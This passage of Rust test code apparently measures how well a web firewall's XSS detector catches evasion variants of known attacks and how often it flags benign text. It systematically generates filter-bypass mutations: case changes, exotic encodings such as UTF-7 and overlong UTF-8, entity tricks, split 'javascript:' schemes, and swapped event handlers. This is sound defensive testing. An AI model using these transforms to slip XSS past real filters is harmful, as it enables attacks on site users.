                for value in [prop.to_string(), format!("\"{prop}\""), format!("'{prop}'")] {
                    let tag = format!("<{el} {attr}={value}>");
                    for payload in [tag.clone(), format!("<form id=f>{tag}</form>")] {
                        let hit = detect::xss(payload.as_bytes());
                        caught += usize::from(hit);
                        total += 1;
                        if !hit && verbose {
                            println!("CLOBBERING MISSED: {payload}");
                        }
                    }
                }
            }
        }
    }
    println!(
        "{}",
        show(
            "xss reference DOM clobbering forms detected",
            (caught, total)
        )
    );
}

/// Each call of a dialog sink in `p`: (start, name end, end after `)`).
fn sink_calls(p: &[u8]) -> Vec<(usize, usize, usize)> {
    let mut out = Vec::new();
    let low = p.to_ascii_lowercase();
    for name in [&b"alert"[..], b"prompt", b"confirm"] {
        let mut from = 0;
        while let Some(at) = low[from..]
            .windows(name.len())
            .position(|w| w == name)
            .map(|a| a + from)
        {
            from = at + name.len();
            if at > 0 && (low[at - 1].is_ascii_alphanumeric() || low[at - 1] == b'\\') {
                continue;
            }
            let open = at + name.len();
            if p.get(open) != Some(&b'(') {
                continue;
            }
            let mut depth = 0;
            let mut close = None;
            for (k, &b) in p[open..].iter().enumerate() {
                match b {
                    b'(' => depth += 1,
                    b')' => {
                        depth -= 1;
                        if depth == 0 {
                            close = Some(open + k + 1);
                            break;
                        }
                    }
                    _ => {}
                }
            }
            if let Some(close) = close {
                out.push((at, open, close));
            }
        }
    }
    out.sort_unstable();
    out
}

/// A quote for a string literal holding `inner` inside `p`: one `p` does not use yet, so the
/// variant stays well formed wherever the call sits.
fn free_quote(p: &[u8], inner: &[u8]) -> Option<u8> {
    [b'\'', b'"', b'`']
        .into_iter()
        .find(|q| !p.contains(q) && !inner.contains(q))
}

/// A small deterministic choice: `k` of `all`, picked by the payload's hash.
fn pick<'a, T>(all: &'a [T], p: &[u8], k: usize) -> impl Iterator<Item = &'a T> {
    let h = super::fnv(p) as usize;
    (0..k.min(all.len()))
        .map(move |n| &all[(h / 7 + n * (all.len() / k.max(1)).max(1)) % all.len()])
}

fn percent_encode(p: &[u8], all: bool) -> Vec<u8> {
    let mut out = Vec::with_capacity(p.len() * 3);
    for &b in p {
        if !all && (b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.' | b'~')) {
            out.push(b);
        } else {
            out.extend_from_slice(format!("%{b:02X}").as_bytes());
        }
    }
    out
}

/// The variants of one attack, each with the name of its kind.
fn variants(p: &[u8]) -> Vec<(&'static str, Vec<u8>)> {
    let mut out: Vec<(&'static str, Option<Vec<u8>>)> = Vec::new();
    let tags = tags(p);

    // Case of tag and attribute names, and of a URL's scheme.
    let mut edits = Vec::new();
    for t in &tags {
        edits.push((t.name, alternate_case(&p[t.name.0..t.name.1])));
        for a in &t.attrs {
            edits.push((a.name, alternate_case(&p[a.name.0..a.name.1])));
            if let Some((v, _)) = a.value
                && let Some(s) = scheme_in(p, v)
                && let Some(c) = p[s..v.1].iter().position(|&b| b == b':')
            {
                edits.push(((s, s + c), alternate_case(&p[s..s + c])));
            }
        }
    }
    out.push(("case of names", splice(p, edits)));

    // Separators between attributes: tab, newline, form feed; `/` after the tag name.
    for (kind, sep) in [
        ("separator tab", &b"\t"[..]),
        ("separator newline", b"\n"),
        ("separator form feed", b"\x0c"),
    ] {
        let edits = tags
            .iter()
            .flat_map(|t| t.gaps.iter())
            .filter(|g| p[g.0..g.1].iter().all(|&b| is_space(b)))
            .map(|&g| (g, sep.to_vec()))
            .collect();
        out.push((kind, splice(p, edits)));
    }
    let edits = tags
        .iter()
        .filter_map(|t| {
            t.gaps
                .first()
                .filter(|g| g.0 == t.name.1 && t.name.1 > t.name.0)
        })
        .filter(|g| p[g.0..g.1].iter().all(|&b| is_space(b)))
        .map(|&g| (g, b"/".to_vec()))
        .collect();
    out.push(("slash after tag name", splice(p, edits)));

    // Quotes: swapped, and removed where the value needs none.
    let swapped = p
        .iter()
        .map(|&b| match b {
            b'"' => b'\'',
            b'\'' => b'"',
            b => b,
        })
        .collect::<Vec<u8>>();
    out.push(("quotes swapped", (swapped != p).then_some(swapped)));
    let mut edits = Vec::new();
    for a in tags.iter().flat_map(|t| t.attrs.iter()) {
        if let Some(((s, e), q)) = a.value
            && q != 0
            && e < p.len()
            && s < e
            && !p[s..e]
                .iter()
                .any(|&b| is_space(b) || matches!(b, b'>' | b'"' | b'\'' | b'`'))
        {
            edits.push(((s - 1, s), Vec::new()));
            edits.push(((e, e + 1), Vec::new()));
        }
    }
    out.push(("quotes removed", splice(p, edits)));

    // URL encodings, as a query value carries the payload.
    out.push(("percent-encoded", Some(percent_encode(p, false))));
    out.push((
        "percent-encoded twice",
        Some(percent_encode(&percent_encode(p, false), false)),
    ));

    // Markup characters in encodings that some layer between the request and the page
    // undoes: UTF-7 (a page served without a charset, read as UTF-7 by old IE), overlong
    // UTF-8 (a lenient decoder), fullwidth forms (a back end that applies NFKC), JS hex
    // escapes (a value written into a script string and from there into the DOM), the top
    // bit set (a page served as US-ASCII, whose top bit old IE dropped).
    for (kind, form) in [
        ("UTF-7", 0),
        ("overlong UTF-8", 1),
        ("fullwidth markup", 2),
        ("JS hex escapes", 3),
        ("US-ASCII high bit", 4),
    ] {
        let mut enc = Vec::with_capacity(p.len() * 2);
        for &b in p {
            if form == 0 && b == b'+' {
                // A literal `+` opens a shifted run in UTF-7; `+-` stands for it.
                enc.extend_from_slice(b"+-");
                continue;
            }
            if !matches!(b, b'<' | b'>' | b'"' | b'\'' | b'(' | b')' | b'=') {
                enc.push(b);
                continue;
            }
            match form {
                0 => {
                    let [hi, lo] = u16::from(b).to_be_bytes();
                    let b64 = base64(&[hi, lo]);
                    enc.push(b'+');
                    enc.extend_from_slice(b64.trim_end_matches('=').as_bytes());
                    enc.push(b'-');
                }
                1 => enc.extend_from_slice(format!("%C0%{:02X}", 0x80 | (b & 0x3f)).as_bytes()),
                2 => {
                    let c = char::from_u32(0xFEE0 + u32::from(b)).unwrap_or('?');
                    enc.extend_from_slice(c.to_string().as_bytes());
                }
                3 => enc.extend_from_slice(format!("\\x{b:02x}").as_bytes()),
                _ => enc.extend_from_slice(format!("%{:02X}", b | 0x80).as_bytes()),
            }
        }
        out.push((kind, (enc != p).then_some(enc)));
    }

    // HTML character references inside handler and URL values (the attribute value is
    // decoded before it is run or followed): decimal, hex without `;`, zero-padded, named.
    for (kind, form) in [
        ("entities decimal", 0),
        ("entities hex no semicolon", 1),
        ("entities zero-padded", 2),
        ("entities named", 3),
    ] {
        let mut edits = Vec::new();
        for a in tags.iter().flat_map(|t| t.attrs.iter()) {
            let Some(((s, e), _)) = a.value else { continue };
            let name = lower(p, a.name);
            let script = name.starts_with(b"on") || scheme_in(p, (s, e)).is_some();
            if !script || s >= e {
                continue;
            }
            for (k, &b) in p[s..e].iter().enumerate() {
                let named = match b {
                    b':' => Some("&colon;"),
                    b'(' => Some("&lpar;"),
                    b')' => Some("&rpar;"),
                    b'.' => Some("&period;"),
                    _ => None,
                };
                if !(k == 0 && b.is_ascii_alphabetic() || named.is_some()) {
                    continue;
                }
                // Without `;` a reference runs over the digits after it, as browsers read it.
                let next = p.get(s + k + 1).copied().unwrap_or(b' ');
                let with = match (form, named) {
                    (0, _) => format!("&#{b};"),
                    (1, _) if next.is_ascii_hexdigit() => format!("&#x{b:x};"),
                    (1, _) => format!("&#x{b:x}"),
                    (2, _) if next.is_ascii_digit() => format!("&#{b:07};"),
                    (2, _) => format!("&#{b:07}"),
                    (_, Some(n)) => (*n).to_owned(),
                    (_, None) => format!("&#{b};"),
                };
                edits.push(((s + k, s + k + 1), with.into_bytes()));
            }
        }
        out.push((kind, splice(p, edits)));
    }

    // A script scheme written with a tab or newline inside it (the URL parser removes them)
    // or with `&colon;`.
    for (kind, form) in [
        ("scheme with tab", &b"java\tscript:"[..]),
        ("scheme with newline", b"java\nscript:"),
        ("scheme with &colon;", b"javascript&colon;"),
    ] {
        let low = p.to_ascii_lowercase();
        let edits = low
            .windows(11)
            .enumerate()
            .filter(|(_, w)| *w == b"javascript:")
            .map(|(at, _)| ((at, at + 11), form.to_vec()))
            .collect();
        out.push((kind, splice(p, edits)));
    }

    // JS escapes and comments in a sink's name or call.
    let calls = sink_calls(p);
    for (kind, form) in [
        ("sink name \\u escape", 0),
        ("sink name \\u{} escape", 1),
        ("comment before call", 2),
        ("space before call", 3),
    ] {
        let edits = calls
            .iter()
            .map(|&(s, open, _)| match form {
                0 => ((s, s + 1), format!("\\u{:04x}", p[s]).into_bytes()),
                1 => ((s, s + 1), format!("\\u{{{:x}}}", p[s]).into_bytes()),
                2 => ((open, open), b"/**/".to_vec()),
                _ => ((open, open), b" ".to_vec()),
            })
            .collect();
        out.push((kind, splice(p, edits)));
    }

    // Sibling sinks.
    if let Some(&(s, open, close)) = calls.first() {
        let f = String::from_utf8_lossy(&p[s..open]).into_owned();
        let a = String::from_utf8_lossy(&p[open + 1..close - 1]).into_owned();
        let c = String::from_utf8_lossy(&p[s..close]).into_owned();
        for form in SINK_FORMS {
            let q = if form.contains("{q}") {
                match free_quote(p, c.as_bytes()) {
                    Some(q) => q as char,
                    None => continue,
                }
            } else {
                '\''
            };
            let with = form
                .replace("{f}", &f)
                .replace("{a}", &a)
                .replace("{c}", &c)
                .replace("{q}", &q.to_string());
            out.push((
                "sibling sink",
                splice(p, vec![((s, close), with.into_bytes())]),
            ));
        }
    }

    // Sibling tags and event handlers for a tag with a handler attribute.
    for t in &tags {
        let Some(h) = t
            .attrs
            .iter()
            .find(|a| lower(p, a.name).starts_with(b"on") && a.value.is_some())
        else {
            continue;
        };
        for e in pick(EVENT_HANDLERS, p, 6) {
            out.push((
                "sibling event handler",
                splice(p, vec![(h.name, e.as_bytes().to_vec())]),
            ));
        }
        if t.name.1 > t.name.0 {
            for n in pick(HANDLER_TAGS, p, 4) {
                out.push((
                    "sibling tag",
                    splice(p, vec![(t.name, n.as_bytes().to_vec())]),
                ));
            }
        }
        break;
    }

    // Sibling URL attributes for a tag whose URL is a script URL.
    for t in &tags {
        let Some(a) = t.attrs.iter().find(|a| {
            a.value.is_some_and(|(v, _)| scheme_in(p, v).is_some())
                && !lower(p, a.name).starts_with(b"on")
        }) else {
            continue;
        };
        if t.name.1 == t.name.0 {
            break;
        }
        for (tag, attr) in pick(URL_ATTRS, p, 5) {
            out.push((
                "sibling URL attribute",
                splice(
                    p,
                    vec![
                        (t.name, tag.as_bytes().to_vec()),
                        (a.name, attr.as_bytes().to_vec()),
                    ],
                ),
            ));
        }
        break;
    }

    out.into_iter().filter_map(|(k, v)| Some((k, v?))).collect()
}

fn variation_report(verbose: bool) {
    let rows = load("xss-attacks.jsonl");
    let mut kinds: Vec<(&'static str, usize, usize)> = Vec::new();
    let (mut caught, mut total) = (0, 0);
    for r in rows.iter().filter(|r| r.tune && detect::xss(&r.payload)) {
        for (kind, v) in variants(&r.payload) {
            let hit = detect::xss(&v);
            let slot = match kinds.iter().position(|k| k.0 == kind) {
                Some(i) => i,
                None => {
                    kinds.push((kind, 0, 0));
                    kinds.len() - 1
                }
            };
            kinds[slot].1 += usize::from(hit);
            kinds[slot].2 += 1;
            caught += usize::from(hit);
            total += 1;
            if !hit && verbose {
                println!(
                    "VARIANT MISSED ({kind}): {}",
                    String::from_utf8_lossy(&v).escape_debug()
                );
            }
        }
    }
    println!("== XSS attack variation (tuning half, variants of detected rows) ==");
    for (kind, k, n) in kinds {
        println!("  {}", show(kind, (k, n)));
    }
    println!(
        "{}",
        show("xss variants detected when their row is", (caught, total))
    );
}

// ---------------------------------------------------------------------------------------
// Independent benign text
// ---------------------------------------------------------------------------------------

/// Files under `dir` (sorted, so the set is the same on every run), at most `limit`.
fn files(dir: &Path, keep: &dyn Fn(&Path) -> bool, limit: usize) -> Vec<PathBuf> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        let Ok(read) = std::fs::read_dir(&d) else {
            continue;
        };
        let mut entries: Vec<PathBuf> = read.flatten().map(|e| e.path()).collect();
        entries.sort();
        for p in entries.into_iter().rev() {
            if p.is_symlink() {
                continue;
            }
            if p.is_dir() {
                stack.push(p);
            } else if keep(&p) {
                out.push(p);
            }
        }
    }
    out.sort();
    out.truncate(limit);
    out
}

/// Lines of text worth sending: not blank, not too long, with letters.
fn text_lines(text: &str, out: &mut Vec<String>, per_file: usize) {
    let mut n = 0;
    for line in text.lines() {
        let t = line.trim();
        if t.len() < 6 || t.len() > 400 || !t.bytes().any(|b| b.is_ascii_alphabetic()) {
            continue;
        }
        out.push(t.to_owned());
        n += 1;
        if n >= per_file {
            break;
        }
    }
}

/// The text of an HTML page (the Rust book): tags removed, the five XML entities decoded,
/// one line per line of the page, so code blocks keep their `<`, `>` and `&`.
fn html_text(html: &str) -> String {
    let body = html.find("<main").map_or(html, |at| &html[at..]);
    let mut out = String::with_capacity(body.len());
    let mut in_tag = false;
    for c in body.chars() {
        match c {
            '<' => in_tag = true,
            '>' if in_tag => in_tag = false,
            c if !in_tag => out.push(c),
            _ => {}
        }
    }
    out.replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&quot;", "\"")
        .replace("&#39;", "'")
        .replace("&amp;", "&")
}

/// Text people type with markup's characters in it, built from parts (not from any corpus):
/// comparisons and arrows, emoticons, e-mail addresses in angle brackets, generic types,
/// shell redirections, CSS and query strings.
fn typed_text() -> Vec<String> {
    let subjects = [
        "the price",
        "x",
        "n",
        "my score",
        "latency",
        "age",
        "count",
        "temp",
    ];
    let ops = [
        "<", ">", "<=", ">=", "=", "=>", "->", "<>", "!=", "<<", ">>", "==",
    ];
    let objects = [
        "10",
        "y",
        "the limit",
        "2*n",
        "0.5",
        "max",
        "100 ms",
        "f(x)",
    ];
    let mut out = Vec::new();
    for (i, s) in subjects.iter().enumerate() {
        for (j, o) in ops.iter().enumerate() {
            let obj = objects[(i + j) % objects.len()];
            out.push(format!("if {s} {o} {obj} then stop"));
            out.push(format!("{s}{o}{obj}"));
            out.push(format!("is {s} {o} {obj}? (asking for a friend)"));
        }
    }
    let faces = [
        "<3", ":-)", ":)", ":(", ">_<", "<_<", "^_^", ":-P", ";)", "</3", "=)", ":-/", "o_O", ":'(",
    ];
    let lines = [
        "love this",
        "thanks so much",
        "not again",
        "see you soon",
        "great job team",
    ];
    for (i, f) in faces.iter().enumerate() {
        for l in lines {
            out.push(format!("{l} {f}"));
            out.push(format!("{f} {l} {}", faces[(i + 3) % faces.len()]));
        }
    }
    let names = [
        "Ann O'Neil",
        "Bob Smith",
        "José García",
        "Dr. Lee",
        "support team",
    ];
    for (i, n) in names.iter().enumerate() {
        let mail = format!("user{i}@example.org");
        out.push(format!("{n} <{mail}>"));
        out.push(format!("\"{n}\" <{mail}>, <other{i}@example.com>"));
        out.push(format!("From: {n} <{mail}>; Reply-To: <{mail}>"));
        out.push(format!("On Tue, {n} <{mail}> wrote:"));
        out.push(format!("> quoted reply from {n}"));
    }
    for t in [
        "Vec<String>",
        "HashMap<K, V>",
        "Option<&'a str>",
        "List<Map<String, Object>>",
        "std::vector<int>",
        "Promise<void>",
        "Array<number>",
    ] {
        out.push(format!("returns {t} when found"));
        out.push(format!("fn get(&self) -> {t}"));
        out.push(format!("const items: {t} = [];"));
    }
    for c in [
        "grep -r foo . > out.txt 2>&1",
        "cat <<EOF > config.yml",
        "sort < in.txt | uniq -c > counts",
        "a && b || c",
        "ls -la ~/docs/*.md",
        "x = (a + b) * (c - d)",
        "f(x) = x^2 + 2x + 1",
        "for (i = 0; i < n; i++) { sum += a[i]; }",
        "if (a > b && c < d) { return; }",
        "color: red; background: #fff; margin: 0 auto;",
        "font-family: 'Open Sans', sans-serif; width: calc(100% - 2em);",
        "background-image: url(images/bg.png)",
        "https://example.com/search?q=shoes&size=42&sort=price_asc#results",
        "https://example.org/a/b?redirect=%2Fhome&lang=en",
        "mailto:someone@example.com?subject=Hello%20there",
        "tel:+1-555-0100",
        "{\"name\": \"x\", \"tags\": [\"a\", \"b\"], \"on\": true}",
        "[link text](https://example.com/page) and ![alt](img.png)",
        "**bold** and _italic_ and `code` and <kbd>Ctrl</kbd>+<kbd>C</kbd>",
        "<b>Note:</b> the <i>second</i> form is <em>optional</em>",
        "<p>First paragraph</p><p>Second one with a <a href=\"https://example.com\">link</a></p>",
        "<img src=\"https://example.com/logo.png\" alt=\"Logo\" width=\"200\">",
        "<ul><li>one</li><li>two</li></ul>",
        "<br/>line two<br />line three",
        "<h2 id=\"usage\">Usage</h2>",
        "<span class=\"highlight\" title=\"On hold\">pending</span>",
        "<div align=\"center\"><sub>Built with care</sub></div>",
        "<details><summary>More</summary>hidden text</details>",
        "<code>a &lt; b</code> &amp; <code>c &gt; d</code>",
        "Tom &amp; Jerry &copy; 2024 &mdash; all rights reserved",
        "3 &lt; 5 &amp;&amp; 5 &gt; 3",
        "α < β and γ > δ, ∀x ∈ S: x ≤ max(S)",
        "onion, onset, ongoing, online=true, one=1",
        "on=1&off=0&only=yes",
        "document the alert levels (low, high) and prompt replies",
        "the confirm button (top right) opens a window",
        "eval: 5/5, print quality: good (matte)",
        "Press Alt+F4 (Windows) or Cmd+Q (macOS) to exit",
        "<<< HEAD, ===, >>> feature-branch",
        "--> next step -->",
        "<!-- TODO: fix later -->",
        "C:\\Users\\me\\Documents\\report (final).docx",
        "/var/log/nginx/access.log:42: GET /index.html?x=1 200",
        "SELECT * FROM t WHERE a < 3 AND b > 4",
        "price: $5 (was $7) — 30% off!",
        "data: 12, 14, 15 (n=3)",
        "style: casual; fit: slim (runs small)",
        "window: 9am-5pm (Mon-Fri)",
        "top: 10px; left: 20px",
        "Re: [project] build fails on <arm64> (#1234)",
        "ratio 1:2, time 12:30, score 3:1",
        "the <title> element and the <body> element",
        "<T extends Comparable<T>> void sort(List<T> list)",
    ] {
        out.push((*c).to_owned());
    }
    out
}

/// Where the text comes from: (source label, lines).
fn benign_sources() -> Vec<(&'static str, Vec<String>)> {
    let mut sources = Vec::new();
    let read = |p: &Path| {
        std::fs::read(p)
            .ok()
            .map(|b| String::from_utf8_lossy(&b).into_owned())
    };

    let doc = Path::new("/usr/share/doc");
    if doc.is_dir() {
        let mut lines = Vec::new();
        let keep = |p: &Path| {
            let n = p.file_name().and_then(|n| n.to_str()).unwrap_or("");
            !n.ends_with(".gz")
                && (n.ends_with(".md")
                    || n.ends_with(".txt")
                    || n.starts_with("README")
                    || n == "copyright"
                    || n == "NEWS"
                    || n.ends_with(".rst"))
        };
        for f in files(doc, &keep, 2000) {
            if let Some(t) = read(&f) {
                text_lines(&t, &mut lines, 40);
            }
        }
        sources.push(("/usr/share/doc", lines));
    }

    let home = std::env::var_os("RUSTUP_HOME")
        .map(PathBuf::from)
        .or_else(|| std::env::var_os("HOME").map(|h| PathBuf::from(h).join(".rustup")));
    if let Some(book) = home.and_then(|h| {
        let tc = h.join("toolchains");
        let mut names: Vec<PathBuf> = std::fs::read_dir(&tc)
            .ok()?
            .flatten()
            .map(|e| e.path())
            .collect();
        names.sort();
        names
            .into_iter()
            .map(|t| t.join("share/doc/rust/html/book"))
            .find(|b| b.is_dir())
    }) {
        let mut lines = Vec::new();
        let keep = |p: &Path| {
            p.extension().is_some_and(|e| e == "html")
                && p.parent()
                    .is_some_and(|d| d.file_name().is_some_and(|n| n == "book"))
        };
        for f in files(&book, &keep, 400) {
            if let Some(t) = read(&f) {
                text_lines(&html_text(&t), &mut lines, 60);
            }
        }
        sources.push(("Rust book (prose and code)", lines));
    }

    let cargo = std::env::var_os("CARGO_HOME")
        .map(PathBuf::from)
        .or_else(|| std::env::var_os("HOME").map(|h| PathBuf::from(h).join(".cargo")));
    if let Some(src) = cargo.map(|c| c.join("registry/src")).filter(|s| s.is_dir()) {
        let mut lines = Vec::new();
        let keep = |p: &Path| {
            let n = p.file_name().and_then(|n| n.to_str()).unwrap_or("");
            // A crate's own README, not the vendored copies deep inside it.
            n.eq_ignore_ascii_case("README.md")
                && p.parent()
                    .and_then(Path::parent)
                    .and_then(Path::parent)
                    .is_some_and(|g| g.file_name().is_some_and(|n| n == "src"))
        };
        for f in files(&src, &keep, 1000) {
            if let Some(t) = read(&f) {
                text_lines(&t, &mut lines, 40);
            }
        }
        sources.push(("crate READMEs (markdown)", lines));
    }

    sources.push(("typed text (generated)", typed_text()));
    sources
}

/// The ways traffic carries a line: as is, upper case, form-encoded (`+` for space, then
/// percent-encoded as a browser submits a form), behind a parameter name.
fn carried(line: &str) -> [Vec<u8>; 5] {
    let b = line.as_bytes();
    let plus: Vec<u8> = b
        .iter()
        .map(|&c| if c == b' ' { b'+' } else { c })
        .collect();
    let mut form = Vec::with_capacity(b.len() * 2);
    for &c in b {
        match c {
            b' ' => form.push(b'+'),
            c if c.is_ascii_alphanumeric() || matches!(c, b'-' | b'_' | b'.' | b'*') => {
                form.push(c)
            }
            c => form.extend_from_slice(format!("%{c:02X}").as_bytes()),
        }
    }
    let mut q = b"q=".to_vec();
    q.extend_from_slice(&plus);
    [b.to_vec(), b.to_ascii_uppercase(), plus, form, q]
}

/// [`show`] with two decimals: the benign rates are a few in ten thousand.
fn show_fine(label: &str, (k, n): (usize, usize)) -> String {
    let (lo, hi) = wilson(k, n);
    format!(
        "{label}: {:.3} % ({k}/{n}, 95 % CI {lo:.3}–{hi:.3})",
        100.0 * k as f64 / n.max(1) as f64
    )
}

fn benign_report(verbose: bool) {
    let sources = benign_sources();
    if sources.len() == 1 {
        crate::tests::skip(
            "no independent benign text on this machine (/usr/share/doc, the Rust book, crate READMEs)",
        );
    }
    println!(
        "== XSS independent benign text (each line as is, upper case, `+`, form-encoded, q=) =="
    );
    let mut seen = std::collections::HashSet::new();
    let (mut all_flagged, mut all_total, mut all_lines, mut lines_flagged) = (0, 0, 0, 0);
    for (label, lines) in sources {
        let (mut flagged, mut total, mut n, mut nf) = (0, 0, 0, 0);
        for line in lines {
            if !seen.insert(line.clone()) {
                continue;
            }
            n += 1;
            let mut any = false;
            for v in carried(&line) {
                total += 1;
                if detect::xss(&v) {
                    flagged += 1;
                    any = true;
                    if verbose {
                        println!(
                            "BENIGN FLAGGED ({label}): {}",
                            String::from_utf8_lossy(&v).escape_debug()
                        );
                    }
                }
            }
            nf += usize::from(any);
        }
        println!(
            "  {label}: {} lines; {} | {}",
            n,
            show_fine("lines flagged in any form", (nf, n)),
            show_fine("requests flagged", (flagged, total))
        );
        all_flagged += flagged;
        all_total += total;
        all_lines += n;
        lines_flagged += nf;
    }
    println!(
        "{} | {}",
        show_fine(
            "xss independent benign lines flagged",
            (lines_flagged, all_lines)
        ),
        show_fine("requests flagged", (all_flagged, all_total))
    );
}

/// Hand-written forms checked one by one (see [`super::probe`]): each line of the file
/// `GWC_WAF_PROBE` names is judged and printed with `HIT` or `pass`, so a form can be tried
/// without rebuilding. Never fed corpus rows.
#[test]
#[ignore = "prints the judge's answer for each line of GWC_WAF_PROBE"]
fn waf_xss_probe() {
    super::probe("GWC_WAF_PROBE", &|v| detect::xss(v).then(String::new));
}
